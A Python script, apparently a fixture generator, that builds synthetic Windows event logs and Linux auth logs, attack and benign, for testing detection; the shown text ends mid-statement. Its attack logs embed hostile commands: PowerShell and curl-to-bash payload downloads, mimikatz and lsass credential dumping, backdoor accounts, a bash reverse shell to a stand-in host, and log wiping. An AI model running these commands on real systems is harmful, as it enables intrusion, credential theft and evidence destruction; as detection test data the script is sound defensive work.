# Generates the synthetic corpora in testdata/ (deterministic: fixed seed).
# Usage: python3 testdata/gen/corpora.py
import json, random, base64, datetime as dt, os
random.seed(7)
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
os.makedirs(OUT+"/attack", exist_ok=True); os.makedirs(OUT+"/benign", exist_ok=True)

def iso(t, frac=6): 
    s = t.strftime("%Y-%m-%dT%H:%M:%S")
    return s + "." + t.strftime("%f")[:frac] + "Z"

SEC_PROV = {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}"}
SYSMON_PROV = {"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}
SCM_PROV = {"Name": "Service Control Manager", "Guid": "{555908d1-a6d7-4695-8e1e-26931d2012f4}", "EventSourceName": "Service Control Manager"}
EL_PROV = {"Name": "Microsoft-Windows-Eventlog", "Guid": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"}
CH = {"Security": "Security", "Sysmon": "Microsoft-Windows-Sysmon/Operational", "System": "System"}

class Log:
    def __init__(self, host):
        self.host = host
        self.rec = {"Security": 48211, "Microsoft-Windows-Sysmon/Operational": 190233, "System": 8812}
        self.out = []
    def ev(self, t, prov, eid, channel, data=None, userdata=None, eid_form="int", data_form="map", user_sid=None, pid=4, extra=None):
        self.rec[channel] += 1
        sysd = {
            "Provider": {"#attributes": prov},
            "EventID": eid,
            "Version": 2 if prov is SYSMON_PROV else 0,
            "Level": 4 if prov is not SEC_PROV else 0,
            "Task": 0,
            "Opcode": 0,
            "Keywords": "0x8020000000000000" if prov is SEC_PROV else "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": iso(t)}},
            "EventRecordID": self.rec[channel],
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": pid, "ThreadID": random.randint(1000, 9000)}},
            "Channel": channel,
            "Computer": self.host,
            "Security": {"#attributes": {"UserID": user_sid}} if user_sid else None,
        }
        if eid_form == "text":
            sysd["EventID"] = {"#text": eid, "#attributes": {"Qualifiers": 16384}}
        elif eid_form == "str":
            sysd["EventID"] = str(eid)
        e = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}, "System": sysd}}
        if data is not None:
            if data_form == "list":
                e["Event"]["EventData"] = {"Data": [{"@Name": k, "#text": v} for k, v in data.items()]}
            else:
                e["Event"]["EventData"] = data
        if userdata is not None:
            e["Event"]["UserData"] = userdata
        if extra: e.update(extra)
        self.out.append((t, e))
    def write(self, path):
        self.out.sort(key=lambda x: x[0])
        rec = {"Security": 48211, "Microsoft-Windows-Sysmon/Operational": 190233, "System": 8812}
        for _, e in self.out:
            ch = e["Event"]["System"]["Channel"]
            rec[ch] += 1
            e["Event"]["System"]["EventRecordID"] = rec[ch]
        with open(path, "w") as f:
            for _, e in self.out:
                f.write(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n")

def guid():
    return "{%08X-%04X-%04X-%04X-%012X}" % (random.getrandbits(32), random.getrandbits(16), random.getrandbits(16), random.getrandbits(16), random.getrandbits(48))

def sha():
    return "SHA256=" + "%064X" % random.getrandbits(256)

pidc = [5000]
def newpid():
    pidc[0] += random.randint(4, 400); return pidc[0]

def sysmon1(L, t, image, cmd, parent, pcmd, user, integrity="High", cwd="C:\\Windows\\system32\\", desc="", orig=""):
    L.ev(t, SYSMON_PROV, 1, CH["Sysmon"], {
        "RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + t.strftime("%f")[:3],
        "ProcessGuid": guid(), "ProcessId": str(newpid()), "Image": image, "FileVersion": "-",
        "Description": desc or "-", "Product": "-", "Company": "-", "OriginalFileName": orig or image.split("\\")[-1],
        "CommandLine": cmd, "CurrentDirectory": cwd, "User": user, "LogonGuid": guid(),
        "LogonId": "0x%x" % random.randint(0x10000, 0xfffffff), "TerminalSessionId": "2",
        "IntegrityLevel": integrity, "Hashes": sha(), "ParentProcessGuid": guid(),
        "ParentProcessId": str(newpid()), "ParentImage": parent, "ParentCommandLine": pcmd,
        "ParentUser": user}, user_sid="S-1-5-18", pid=3120)

def logon(L, t, eid, user, ltype, ip, domain="ACME", status=None, ws="-", proc="C:\\Windows\\System32\\svchost.exe", sid=None, form="map"):
    d = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": L.host.split(".")[0].upper() + "$", "SubjectDomainName": "ACME",
         "SubjectLogonId": "0x3e7", "TargetUserSid": sid or ("S-1-0-0" if eid == 4625 else "S-1-5-21-3623811015-3361044348-30300820-500"),
         "TargetUserName": user, "TargetDomainName": domain}
    if eid == 4625:
        d.update({"Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": status or "0xc000006a"})
    else:
        d.update({"LogonId": "0x%x" % random.randint(0x100000, 0xfffffff), "LinkedLogonId": "0x0", "ElevatedToken": "%%1842"})
    d.update({"LogonType": str(ltype), "LogonProcessName": "User32 " if ltype in (2, 10) else "Advapi  ",
              "AuthenticationPackageName": "Negotiate", "WorkstationName": ws, "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
              "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x%x" % random.randint(0x200, 0x2000),
              "ProcessName": proc, "IpAddress": ip, "IpPort": str(random.randint(49152, 65000)) if ip not in ("-", "127.0.0.1") else "0"})
    L.ev(t, SEC_PROV, eid, CH["Security"], d, pid=652, data_form=form)

# ---------------- attack/evtx.jsonl ----------------
A = Log("FS01.acme.local")
T0 = dt.datetime(2024, 3, 19, 23, 30, 0, 120000)
def at(sec): return T0 + dt.timedelta(seconds=sec, microseconds=random.randint(0, 999999))
ATK = "203.0.113.45"
# benign background, interleaved
for i in range(0, 40):
    s = i * 95 + random.randint(0, 40) - 300
    k = i % 8
    if k == 0: logon(A, at(s), 4624, "SYSTEM", 5, "-", domain="NT AUTHORITY", sid="S-1-5-18", proc="C:\\Windows\\System32\\services.exe")
    elif k == 1: sysmon1(A, at(s), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=%d" % random.randint(5, 90), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "ACME\\mgarcia", integrity="Low", cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    elif k == 2: sysmon1(A, at(s), "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", "NT AUTHORITY\\SYSTEM", integrity="System")
    elif k == 3: logon(A, at(s), 4624, "mgarcia", 2, "127.0.0.1", sid="S-1-5-21-3623811015-3361044348-30300820-1107", ws="FS01", proc="C:\\Windows\\System32\\svchost.exe")
    elif k == 4: A.ev(at(s), SCM_PROV, 7036, "System", {"param1": random.choice(["Windows Update", "Background Intelligent Transfer Service", "Windows Modules Installer"]), "param2": random.choice(["running", "stopped"]), "Binary": "7700750061007500730065007200760000000000"}, eid_form="text", pid=640)
    elif k == 5: sysmon1(A, at(s), "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "ACME\\mgarcia", integrity="Medium")
    elif k == 6: A.ev(at(s), SYSMON_PROV, 22, CH["Sysmon"], {"RuleName": "-", "UtcTime": "-", "ProcessGuid": guid(), "ProcessId": "4412", "QueryName": random.choice(["www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "fs01.acme.local"]), "QueryStatus": "0", "QueryResults": "::ffff:20.70.246.20;", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "User": "ACME\\mgarcia"}, user_sid="S-1-5-18", pid=3120)
    else: sysmon1(A, at(s), "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"\\\\fs01\\finance\\Q1-budget.xlsx\"", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "ACME\\mgarcia", integrity="Medium", cwd="C:\\Users\\mgarcia\\Documents\\")
# brute force: 12 failures in < 2 minutes, RDP
for i in range(12):
    logon(A, T0 + dt.timedelta(seconds=i * 9 + 1, microseconds=i * 7919), 4625, "administrator", 10, ATK, ws="kali", status="0xc000006a", proc="C:\\Windows\\System32\\svchost.exe")
logon(A, T0 + dt.timedelta(seconds=118, microseconds=4521), 4624, "Administrator", 10, ATK, ws="kali")
AU = "ACME\\Administrator"
C = 130
def step(): 
    global C; C += random.randint(15, 45); return T0 + dt.timedelta(seconds=C, microseconds=random.randint(0, 999999))
B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')".encode("utf-16-le")).decode()
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
EXP = "C:\\Windows\\explorer.exe"
sysmon1(A, step(), "C:\\Windows\\System32\\whoami.exe", "whoami /all", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
sysmon1(A, step(), PS, "powershell.exe -nop -w hidden -enc " + B64, CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, desc="Windows PowerShell", orig="PowerShell.EXE")
A.ev(step(), SYSMON_PROV, 3, CH["Sysmon"], {"RuleName": "-", "UtcTime": "-", "ProcessGuid": guid(), "ProcessId": "6120", "Image": PS, "User": AU, "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.1.15", "SourceHostname": "FS01.acme.local", "SourcePort": "50312", "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": "198.51.100.7", "DestinationHostname": "-", "DestinationPort": "80", "DestinationPortName": "http"}, user_sid="S-1-5-18", pid=3120)
sysmon1(A, step(), "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, orig="CertUtil.exe")
sysmon1(A, step(), "C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer job http://198.51.100.7/b.exe C:\\Users\\Public\\b.exe", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
sysmon1(A, step(), PS, "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1')", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, orig="PowerShell.EXE")
sysmon1(A, step(), "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, cwd="C:\\Users\\Public\\", desc="mimikatz for Windows", orig="mimikatz.exe")
A.ev(step(), SYSMON_PROV, 10, CH["Sysmon"], {"RuleName": "-", "UtcTime": "-", "SourceProcessGUID": guid(), "SourceProcessId": "7344", "SourceThreadId": "7360", "SourceImage": "C:\\Users\\Public\\mimikatz.exe", "TargetProcessGUID": guid(), "TargetProcessId": "624", "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2730e|C:\\Users\\Public\\mimikatz.exe+8d2a1", "SourceUser": AU, "TargetUser": "NT AUTHORITY\\SYSTEM"}, user_sid="S-1-5-18", pid=3120)
sysmon1(A, step(), "C:\\Users\\Public\\procdump64.exe", "procdump.exe -accepteula -ma lsass.exe lsass.dmp", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, cwd="C:\\Users\\Public\\", orig="procdump")
sysmon1(A, step(), "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, orig="RUNDLL32.EXE")
sysmon1(A, step(), "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM sam.save", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU, cwd="C:\\Users\\Public\\")
sysmon1(A, step(), "C:\\Windows\\System32\\net.exe", "net user hacker P@ss /add", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
A.ev(step(), SEC_PROV, 4720, "Security", {"TargetUserName": "svc_backup", "TargetDomainName": "FS01", "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1013", "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500", "SubjectUserName": "Administrator", "SubjectDomainName": "ACME", "SubjectLogonId": "0x4c1a2f", "PrivilegeList": "-", "SamAccountName": "svc_backup", "DisplayName": "%%1793", "UserPrincipalName": "-", "HomeDirectory": "%%1793", "UserAccountControl": "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084", "PrimaryGroupId": "513"}, pid=652)
sysmon1(A, step(), "C:\\Windows\\System32\\net.exe", "net localgroup administrators hacker /add", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
A.ev(step(), SEC_PROV, 4732, "Security", {"MemberName": "-", "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1013", "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500", "SubjectUserName": "Administrator", "SubjectDomainName": "ACME", "SubjectLogonId": "0x4c1a2f", "PrivilegeList": "-"}, pid=652, data_form="list")
sysmon1(A, step(), "C:\\Windows\\System32\\sc.exe", "sc create PSEXESVC binPath= %SystemRoot%\\PSEXESVC.exe start= auto", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
A.ev(step(), SCM_PROV, 7045, "System", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}, eid_form="text", user_sid="S-1-5-21-3623811015-3361044348-30300820-500", pid=640)
sysmon1(A, step(), "C:\\Windows\\System32\\schtasks.exe", "schtasks /create /tn Updater /tr \"powershell.exe -nop -w hidden -enc " + B64[:40] + "\" /sc onlogon /ru SYSTEM", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
TASK = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>powershell.exe</Command>\r\n      <Arguments>-nop -w hidden -enc " + B64[:40] + "</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>")
A.ev(step(), SEC_PROV, 4698, "Security", {"SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500", "SubjectUserName": "Administrator", "SubjectDomainName": "ACME", "SubjectLogonId": "0x4c1a2f", "TaskName": "\\Updater", "TaskContent": TASK, "ClientProcessStartKey": "4503599627370521", "ClientProcessId": "7812", "ParentProcessId": "5016", "RpcCallClientLocality": "0", "FQDN": "FS01.acme.local"}, pid=652)
sysmon1(A, step(), "C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
sysmon1(A, step(), "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", CMD, "\"C:\\Windows\\system32\\cmd.exe\"", AU)
A.ev(step(), EL_PROV, 1102, "Security", userdata={"LogFileCleared": {"#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"}, "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500", "SubjectUserName": "Administrator", "SubjectDomainName": "ACME", "SubjectLogonId": "0x4c1a2f"}}, pid=1244)
A.ev(step(), EL_PROV, 104, "System", userdata={"LogFileCleared": {"#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"}, "SubjectUserName": "Administrator", "SubjectDomainName": "ACME", "Channel": "System", "BackupPath": ""}}, eid_form="str", user_sid="S-1-5-21-3623811015-3361044348-30300820-500", pid=1244)
A.write(OUT + "/attack/evtx.jsonl")

# ---------------- benign/evtx.jsonl ----------------
Bn = Log("WKS-042.acme.local")
T1 = dt.datetime(2024, 3, 18, 7, 55, 0)
users = [("jdoe", "1104"), ("asmith", "1121"), ("rlee", "1133")]
t = T1
apps = [
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{u}\\Documents\\minutes.docx\"", EXP, "C:\\Windows\\Explorer.EXE"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", EXP, "C:\\Windows\\Explorer.EXE"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://intranet.acme.local/", EXP, "C:\\Windows\\Explorer.EXE"),
    ("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -Command Get-ChildItem C:\\Users\\{u}\\Downloads", EXP, "C:\\Windows\\Explorer.EXE"),
    ("C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", EXP, "C:\\Windows\\Explorer.EXE"),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=renderer", "C:\\Program Files\\Microsoft VS Code\\Code.exe", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\""),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"),
    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{u}\\Desktop\\todo.txt", EXP, "C:\\Windows\\Explorer.EXE"),
]
mistyped = {20: "asmith", 95: "rlee"}
i = 0
while len(Bn.out) < 150:
    t += dt.timedelta(seconds=random.randint(30, 400), microseconds=random.randint(0, 999999))
    u, rid = users[i % 3]
    k = random.randint(0, 9)
    if i in mistyped:
        mu = mistyped[i]
        logon(Bn, t, 4625, mu, 2, "127.0.0.1", ws="WKS-042", proc="C:\\Windows\\System32\\svchost.exe")
        t += dt.timedelta(seconds=6, microseconds=230000)
        logon(Bn, t, 4624, mu, 2, "127.0.0.1", ws="WKS-042", sid="S-1-5-21-3623811015-3361044348-30300820-" + dict(users)[mu])
    elif k <= 1:
        logon(Bn, t, 4624, "SYSTEM", 5, "-", domain="NT AUTHORITY", sid="S-1-5-18", proc="C:\\Windows\\System32\\services.exe")
    elif k == 2:
        logon(Bn, t, 4624, u, random.choice([2, 3, 11]), random.choice(["127.0.0.1", "10.20.4.11", "-"]), sid="S-1-5-21-3623811015-3361044348-30300820-" + rid, ws="WKS-042")
    elif k == 3:
        Bn.ev(t, SCM_PROV, 7036, "System", {"param1": random.choice(["Windows Update", "Background Intelligent Transfer Service", "Print Spooler", "Windows Defender Antivirus Service", "Google Update Service (gupdate)"]), "param2": random.choice(["running", "stopped"]), "Binary": "7700750061007500730065007200760000000000"}, eid_form="text", pid=640)
    elif k == 4:
        Bn.ev(t, SYSMON_PROV, 22, CH["Sysmon"], {"RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessGuid": guid(), "ProcessId": str(newpid()), "QueryName": random.choice(["outlook.office365.com", "www.bing.com", "intranet.acme.local", "teams.microsoft.com", "update.googleapis.com", "ctldl.windowsupdate.com"]), "QueryStatus": "0", "QueryResults": "type:  5 outlook.ha.office365.com;::ffff:52.97.133.194;", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "User": "ACME\\" + u}, user_sid="S-1-5-18", pid=3120)
    elif k == 5:
        Bn.ev(t, SYSMON_PROV, 3, CH["Sysmon"], {"RuleName": "-", "UtcTime": "-", "ProcessGuid": guid(), "ProcessId": str(newpid()), "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "User": "ACME\\" + u, "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.4.42", "SourceHostname": "WKS-042.acme.local", "SourcePort": str(random.randint(50000, 60000)), "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": "52.97.133.194", "DestinationHostname": "-", "DestinationPort": "443", "DestinationPortName": "https"}, user_sid="S-1-5-18", pid=3120)
    else:
        img, cmd, par, pcmd = random.choice(apps)
        sysmon1(Bn, t, img.replace("{u}", u), cmd.replace("{u}", u), par, pcmd, "ACME\\" + u, integrity="Medium", cwd="C:\\Users\\%s\\" % u)
    i += 1
Bn.write(OUT + "/benign/evtx.jsonl")

# ---------------- attack/auth.log ----------------
def syslog_ts(t): return t.strftime("%b ") + ("%2d" % t.day) + t.strftime(" %H:%M:%S")
lines = []
H = "web01"
T2 = dt.datetime(2024, 3, 19, 22, 58, 0)
def L_(t, prog, msg): lines.append((t, "%s %s %s: %s" % (syslog_ts(t), H, prog, msg)))
pid = [2100]
def np_():
    pid[0] += random.randint(3, 60); return pid[0]
# benign background across ~50 minutes
bt = T2
for i in range(42):
    bt += dt.timedelta(seconds=random.randint(20, 90))
    k = i % 7
    if k == 0:
        p = np_()
        L_(bt, "CRON[%d]" % p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        L_(bt + dt.timedelta(seconds=1), "CRON[%d]" % (p + 1), "(root) CMD (cd / && run-parts --report /etc/cron.hourly)" if i % 2 else "(root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))")
        L_(bt + dt.timedelta(seconds=1), "CRON[%d]" % p, "pam_unix(cron:session): session closed for user root")
    elif k == 1:
        p = np_()
        L_(bt, "sshd[%d]" % p, "Accepted publickey for deploy from 10.0.0.5 port %d ssh2: ED25519 SHA256:mK3pXzq1Yk9pC0Jd8fV2wq5bN7rT4uA6sE1hG3jL0oQ" % random.randint(40000, 60000))
        L_(bt, "sshd[%d]" % p, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
        L_(bt, "systemd-logind[612]", "New session %d of user deploy." % (300 + i))
    elif k == 2:
        L_(bt, "systemd[1]", random.choice(["Starting Daily apt download activities...", "Started Daily apt download activities.", "Starting Cleanup of Temporary Directories...", "Finished Cleanup of Temporary Directories.", "Started Session %d of User deploy." % (300 + i)]))
    elif k == 3:
        L_(bt, "sudo", "   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update")
        L_(bt, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
        L_(bt + dt.timedelta(seconds=4), "sudo", "pam_unix(sudo:session): session closed for user root")
    elif k == 4:
        L_(bt, "sshd[%d]" % np_(), "Received disconnect from 10.0.0.5 port %d:11: disconnected by user" % random.randint(40000, 60000))
        L_(bt, "systemd-logind[612]", "Session %d logged out. Waiting for processes to exit." % (300 + i - 3))
    elif k == 5:
        L_(bt, "sudo", "   deploy : TTY=pts/1 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx")
    else:
        L_(bt, "systemd[1]", "Started Session %d of User deploy." % (300 + i))
# brute force: 15 failures within 60 s
AT = "198.51.100.23"
T3 = dt.datetime(2024, 3, 19, 23, 21, 4)
names = ["root", "admin", "oracle", "root", "admin", "oracle", "root", "test", "root", "admin", "oracle", "root", "ubuntu", "root", "root"]
for i, u in enumerate(names):
    t = T3 + dt.timedelta(seconds=i * 4)
    p = np_()
    if u in ("admin", "oracle", "test", "ubuntu"):
        L_(t, "sshd[%d]" % p, "Invalid user %s from %s port %d" % (u, AT, 40000 + i * 7))
        L_(t, "sshd[%d]" % p, "Failed password for invalid user %s from %s port %d ssh2" % (u, AT, 40000 + i * 7))
    else:
        if i == 0:
            L_(t, "sshd[%d]" % p, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root" % AT)
        L_(t, "sshd[%d]" % p, "Failed password for %s from %s port %d ssh2" % (u, AT, 40000 + i * 7))
t = T3 + dt.timedelta(seconds=66)
p = np_()
L_(t, "sshd[%d]" % p, "Accepted password for root from %s port 40211 ssh2" % AT)
L_(t, "sshd[%d]" % p, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
L_(t, "systemd-logind[612]", "New session 412 of user root.")
t += dt.timedelta(seconds=41)
p = np_()
L_(t, "useradd[%d]" % p, "new group: name=backdoor, GID=1002")
L_(t, "useradd[%d]" % p, "new user: name=backdoor, UID=0, GID=1002, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1")
t += dt.timedelta(seconds=19)
L_(t, "usermod[%d]" % np_(), "add 'backdoor' to group 'sudo'")
L_(t, "usermod[%d]" % pid[0], "add 'backdoor' to shadow group 'sudo'")
t += dt.timedelta(seconds=7)
L_(t, "gpasswd[%d]" % np_(), "user backdoor added by root to group sudo")
t += dt.timedelta(seconds=52)
L_(t, "crontab[%d]" % np_(), "(root) REPLACE (root)")
t += dt.timedelta(seconds=8)
L_(t, "crontab[%d]" % np_(), "(root) LIST (root)")
t = dt.datetime(2024, 3, 19, 23, 26, 0)
p = np_()
L_(t, "CRON[%d]" % p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
L_(t, "CRON[%d]" % (p + 1), "(root) CMD (curl -fsSL http://198.51.100.23/x.sh | bash)")
L_(t + dt.timedelta(seconds=2), "CRON[%d]" % p, "pam_unix(cron:session): session closed for user root")
t += dt.timedelta(seconds=31)
L_(t, "sudo", "backdoor : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")
L_(t, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by root(uid=0)")
t += dt.timedelta(seconds=95)
L_(t, "sudo", "backdoor : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash -c history -c")
t += dt.timedelta(seconds=3)
L_(t, "sudo", "backdoor : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log /var/log/wtmp")
lines.sort(key=lambda x: x[0])
with open(OUT + "/attack/auth.log", "w") as f:
    for _, l in lines: f.write(l + "\n")

# ---------------- benign/auth.log ----------------
lines = []
H = "app02"
bt = dt.datetime(2024, 3, 18, 8, 0, 0)
users2 = [("kwilson", "10.0.2.17", 1002), ("deploy", "10.0.0.5", 1001)]
i = 0
while len(lines) < 100:
    bt += dt.timedelta(seconds=random.randint(30, 240))
    k = i % 9
    if i == 12 or i == 47:
        p = np_()
        L_(bt, "sshd[%d]" % p, "Failed password for kwilson from 10.0.2.17 port %d ssh2" % random.randint(40000, 60000))
        bt += dt.timedelta(seconds=5)
        p = np_()
        L_(bt, "sshd[%d]" % p, "Accepted password for kwilson from 10.0.2.17 port %d ssh2" % random.randint(40000, 60000))
        L_(bt, "sshd[%d]" % p, "pam_unix(sshd:session): session opened for user kwilson(uid=1002) by (uid=0)")
    elif k in (0, 5):
        p = np_()
        L_(bt, "CRON[%d]" % p, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        L_(bt, "CRON[%d]" % (p + 1), random.choice(["(root) CMD (cd / && run-parts --report /etc/cron.hourly)", "(root) CMD (/usr/lib/php/sessionclean)", "(www-data) CMD (php /var/www/app/artisan schedule:run >> /dev/null 2>&1)"]))
        L_(bt + dt.timedelta(seconds=1), "CRON[%d]" % p, "pam_unix(cron:session): session closed for user root")
    elif k == 1:
        u, ip, uid = users2[i % 2]
        p = np_()
        L_(bt, "sshd[%d]" % p, "Accepted publickey for %s from %s port %d ssh2: RSA SHA256:Zt1c0qkq7W0jv3y3oAqkE3kU9Jv1Kk3l9lq0ZC2vXzg" % (u, ip, random.randint(40000, 60000)))
        L_(bt, "sshd[%d]" % p, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (u, uid))
    elif k == 2:
